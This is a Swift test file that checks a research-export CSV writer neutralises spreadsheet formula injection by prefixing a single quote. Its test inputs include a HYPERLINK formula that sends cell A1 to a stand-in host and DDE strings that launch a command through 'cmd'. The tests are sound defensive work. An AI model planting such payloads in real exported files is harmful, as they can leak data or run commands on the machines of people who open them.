import SpiegelCore
import Testing

@Suite("CSV fields a spreadsheet would run as formulas")
struct CSVInjectionTests {
    func csv(_ field: String, delimiter: Character = ",") -> String {
        ResearchExport.Table(columns: ["text"], rows: [[field]]).csv(delimiter: delimiter)
    }

    @Test(
        "a field that starts a formula gets a single quote in front and is quoted",
        arguments: [
            ("=HYPERLINK(\"http://x.test/?\"&A1;\"klik\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1;\"\"klik\"\")\""),
            ("+31 6 12345678", "\"'+31 6 12345678\""),
            ("-1+cmd|' /C calc'!A0", "\"'-1+cmd|' /C calc'!A0\""),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
            ("\t=1+1", "\"'\t=1+1\""),
            ("\r=1+1", "\"'\r=1+1\""),
            ("-", "\"'-\""),
            ("+", "\"'+\""),
            ("-1-1", "\"'-1-1\""),
            ("-e5", "\"'-e5\""),
        ])
    func neutralised(field: String, expected: String) {
        #expect(csv(field) == "text\r\n\(expected)\r\n")
    }

    @Test(
        "numbers, and text that does not start a formula, are written as they are",
        arguments: ["-1", "+0.29", "-0.5", "+2", "-.5", "1e-3", "-2.5E+3", "3", "Goed = beter", "n.v.t.", "", "'al tekst"])
    func unchanged(field: String) {
        #expect(csv(field) == "text\r\n\(field)\r\n")
    }

    @Test("a field holding ',' or ';' is quoted whatever the delimiter, so no cell starts inside it")
    func otherDelimiters() {
        #expect(csv("a;=1+1") == "text\r\n\"a;=1+1\"\r\n")
        #expect(csv("a,=1+1", delimiter: ";") == "text\r\n\"a,=1+1\"\r\n")
        #expect(csv("a\t=1+1", delimiter: ";") == "text\r\n\"a\t=1+1\"\r\n")
    }

    @Test("every writer of the one CSV table neutralises: the header row too")
    func headerRow() {
        let table = ResearchExport.Table(columns: ["=kop"], rows: [["-3", "=2"]])
        #expect(table.csv(delimiter: ";") == "\"'=kop\"\r\n-3;\"'=2\"\r\n")
    }
}
